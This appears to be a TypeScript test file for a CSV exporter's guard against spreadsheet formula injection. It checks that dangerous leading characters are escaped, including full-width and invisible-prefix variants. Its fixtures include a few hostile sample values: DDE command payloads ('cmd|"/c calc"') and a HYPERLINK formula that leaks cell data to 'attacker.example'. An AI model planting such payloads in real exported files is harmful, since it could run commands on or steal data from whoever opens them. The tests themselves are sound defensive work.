// No cell of a CSV is run: read back, none begins as a formula does unless it is a plain number; with the switch, and
// but for the guard, every cell is what was written.
import { readdirSync, readFileSync } from 'node:fs';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csv } from '../../server/features/table/csv.ts';
import type { Table } from '../../server/features/table/table.ts';
import { run } from '../cli/memory.ts';
import { tablesOf } from './sketch.ts';

/** The fields of a CSV, as RFC 4180 has it. */
function fieldsOf(text: string): string[] {
  const records = text.replace(/^\ufeff/u, '');
  return [...records.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/g)].map(([, quoted, bare]) =>
    quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'),
  );
}

const SEPARATOR = /[;\t\r\n]/;

/** A line of a list, as people write it within a cell, that calls nothing. */
function isListed(field: string): boolean {
  return /^[ \u3000]*[+\-－][ \u3000][^(|!=]*$/.test(field);
}

/** Whether a field is what was written, but for guards where it, or a part of it, begins. */
function isGuarded(field: string, written: string): boolean {
  const parts = written.split(SEPARATOR);
  const guarded = field.split(SEPARATOR);
  return (
    guarded.length === parts.length &&
    guarded.every((part, at) => part === parts[at] || part === `'${parts[at]}`)
  );
}

/** As a spreadsheet looks at a cell: what it leaves out at the beginning, and the widths of signs, do not count. */
function isFormula(field: string): boolean {
  if (/^[\t\r\n]/.test(field)) return true;
  const seen = field.normalize('NFKC').replace(/^[\s\p{Cc}\p{Cf}"]+/u, '');
  return /^[=+\-@]/.test(seen) && !/^[+-][\d,]+(?:\.\d+)?%?$/.test(seen.trim());
}

const FORMULAS = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://attacker.example?x="&A1,"点我")',
  '+1+1',
  '-1+1',
  '--1',
  '-甲',
  '- 甲',
  '-',
  '+86-10-1234',
  '-2-3',
  '@SUM(A1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '﹦1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t甲',
  '\r甲',
  '\n甲',
  '\n+5',
  '\t-12%',
  ' =1+1',
  '\u3000=1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u2060＝1+1',
  '\0=1+1',
  '"=1+1"',
  "'=1+1",
  "''=1+1",
  '=1+1\n甲',
  '=甲,乙',
  '-5\n=1',
] as const;
const TEXTS = [
  '甲',
  '',
  '0',
  '-5',
  '+3.5',
  '-12%',
  '-1,000',
  '1,000',
  '+0.5%',
  '12%',
  '2020-07-02',
  '1=1',
  '甲=乙',
  '—',
  '——甲',
  '–',
  '· 甲',
  '（1）甲',
  '“=1+1”',
  'a@b.c',
  '甲\n- 乙\n- 丙',
  '甲;乙',
  "'甲",
] as const;
/** What a spreadsheet with other separators takes for several cells, and a guard before each that would be run. */
const WITHIN = [
  ['甲\n=乙', "甲\n'=乙"],
  ['甲;=1+1', "甲;'=1+1"],
  ['甲\t=1+1;@SUM(1)', "甲\t'=1+1;'@SUM(1)"],
  ['甲\r\n－1+A1', "甲\r\n'－1+A1"],
  ["甲\n- cmd|'/C calc'!A0", "甲\n'- cmd|'/C calc'!A0"],
  ['甲";"=1+1', '甲";\'"=1+1'],
  ['=1\n- 甲;-5;=2', "'=1\n- 甲;-5;'=2"],
] as const;

const words = fc.oneof(
  fc.constantFrom(...FORMULAS, ...TEXTS, ...WITHIN.map(([text]) => text)),
  fc
    .array(fc.constantFrom(...'=+-@＝＋－＠\t\r\n \u3000\u200b\ufeff"\',;%.0159', '甲', '1,000'), {
      maxLength: 8,
    })
    .map((parts) => parts.join('')),
  fc.string({ unit: 'binary', maxLength: 12 }),
);

function tables(one: string, other: string): Table[] {
  const head = `类型: 任务分工\n标题: ${JSON.stringify(one)}\n附件: ${JSON.stringify(other)}\n`;
  const column = JSON.stringify(`${one}甲`);
  const rows = `  - 章节: ${JSON.stringify(other)}\n  - {工作任务: ${JSON.stringify(one)}, ${column}: ${JSON.stringify(other)}}\n`;
  return tablesOf(
    `${head}表头: [工作任务, ${column}]\n条目:\n${rows}---\n类型: 任务分工\n标题: 乙\n条目:\n  - {工作任务: ${JSON.stringify(one)}}\n`,
  );
}

/** Holds the law for one value; also whether every cell is there, with the guard or without. */
function held(value: readonly Table[]): void {
  const guarded = fieldsOf(csv(value));
  const plain = fieldsOf(csv(value, 'as-written'));
  expect(guarded.filter(isFormula)).toEqual([]);
  expect(guarded).toHaveLength(plain.length);
  expect(guarded.filter((field, at) => !isGuarded(field, plain[at] ?? ''))).toEqual([]);
  // For whom a semicolon or a tab is the separator, a quotation within a line is none, and a cell falls into parts.
  const parts = guarded.flatMap((field) => field.split(SEPARATOR));
  expect(parts.filter((part) => isFormula(part) && !isListed(part))).toEqual([]);
  const cells = value.flatMap(({ rows }) => rows.flatMap((row) => row.cells.map(({ text }) => text)));
  expect(cells.filter((text) => text !== '' && !plain.includes(text))).toEqual([]);
}

describe('CSV', () => {
  test.each(FORMULAS)('guards %j', (text) => {
    const guarded = fieldsOf(csv(tables('甲', text))).filter((field) => isGuarded(field, text));
    expect(guarded.length).toBeGreaterThan(0);
    expect(guarded.filter((field) => !field.startsWith("'"))).toEqual([]);
    held(tables(text, text));
  });
  test.each(TEXTS)('leaves %j', (text) => {
    expect(fieldsOf(csv(tables('甲', text)))).not.toContain(`'${text}`);
    held(tables(text, text));
  });
  test.each(WITHIN)('guards %j within', (text, guarded) => {
    expect(fieldsOf(csv(tables('甲', text)))).toContain(guarded);
    held(tables(text, text));
  });
  test('of any text', () => {
    fc.assert(
      fc.property(words, words, (one, other) => held(tables(one, other))),
      { numRuns: 500 },
    );
  });
  test.each(readdirSync('examples').filter((name) => name.endsWith('.yaml')))('of %s', (name) => {
    held(tablesOf(readFileSync(`examples/${name}`, 'utf8')));
  });
});

test('the command line guards, and leaves everything as it is where that is asked for', async () => {
  const files = {
    'a.分工.yaml': '类型: 任务分工\n标题: 表\n条目:\n  - {工作任务: "=1+1", 责任单位: 市财政局}\n',
  };
  const render = (...args: readonly string[]) =>
    run(['render', 'a.分工.yaml', '--to', 'csv', ...args], files);
  expect((await render()).out).toContain(",'=1+1,");
  expect((await render('--keep-formulas')).out).toContain(',=1+1,');
  expect((await render('--keep-formulas', '--out', 'b.csv')).written['b.csv']).toContain(',=1+1,');
  const other = await run(['render', 'a.分工.yaml', '--to', 'md', '--keep-formulas'], files);
  expect(other).toMatchObject({ exit: 2, out: '', err: expect.stringContaining('--keep-formulas') });
});
